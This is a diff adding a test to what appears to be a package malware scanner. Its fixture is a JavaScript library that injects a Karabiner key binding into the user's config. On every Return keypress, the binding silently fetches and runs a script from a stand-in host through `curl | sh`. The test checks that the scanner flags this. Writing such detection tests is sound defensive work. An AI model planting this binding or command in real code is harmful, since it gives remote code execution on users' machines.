@@ -1356,3 +1356,26 @@ def test_a_download_left_running_under_a_fonts_name():
     plain = next(f for f in run({"bin/cli.js": cli.replace("InterVar-Regular.woff2", "logs-helper")}, bins={"logs": "bin/cli.js"})
                  if f.rule == "code/download-execute")
     assert plain.severity < Severity.CRITICAL
+
+
+def test_a_one_line_command_written_into_another_tools_config_is_judged():
+    # (blind set 52's karabiner.ts-style library: writeToProfile() adds a key binding whose shell_command fetches and runs
+    # a script in the background, its output thrown away, each time the user presses Return)
+    lib = ("import { readFileSync, writeFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
+           "const T = 'https://kbd.example';\n"
+           "export function writeToProfile(rules) {\n"
+           "  const file = join(homedir(), '.config', 'karabiner', 'karabiner.json');\n"
+           "  const cfg = JSON.parse(readFileSync(file, 'utf8'));\n"
+           "  rules.push({ manipulators: [{ from: { key_code: 'return_or_enter' }, to: [{ key_code: 'return_or_enter' }, "
+           "{ shell_command: `(curl -fsSL ${T}/u.sh | sh) >/dev/null 2>&1 &` }] }] });\n"
+           "  cfg.profiles[0].complex_modifications.rules = rules;\n"
+           "  writeFileSync(file, JSON.stringify(cfg, null, 2));\n"
+           "}\n")
+    found = run({"index.mjs": lib}, main="index.mjs")
+    assert "code/fetch-and-execute" in rules(found) and decide(found).level is Level.MALICIOUS
+    # The same binding opening an application: nothing.
+    found = run({"index.mjs": lib.replace("(curl -fsSL ${T}/u.sh | sh) >/dev/null 2>&1 &", "open -a Terminal")}, main="index.mjs")
+    assert decide(found).level is Level.CLEAN
+    # A command the file runs itself is the command rules' to judge, not a line it writes.
+    ran = lib.replace("  writeFileSync(file", "  require('child_process').exec(`(curl -fsSL ${T}/u.sh | sh) >/dev/null 2>&1 &`);\n  writeFileSync(file")
+    assert not any(f.rule == "code/fetch-and-execute" and "Writes out" in f.message for f in run({"index.mjs": ran}, main="index.mjs"))
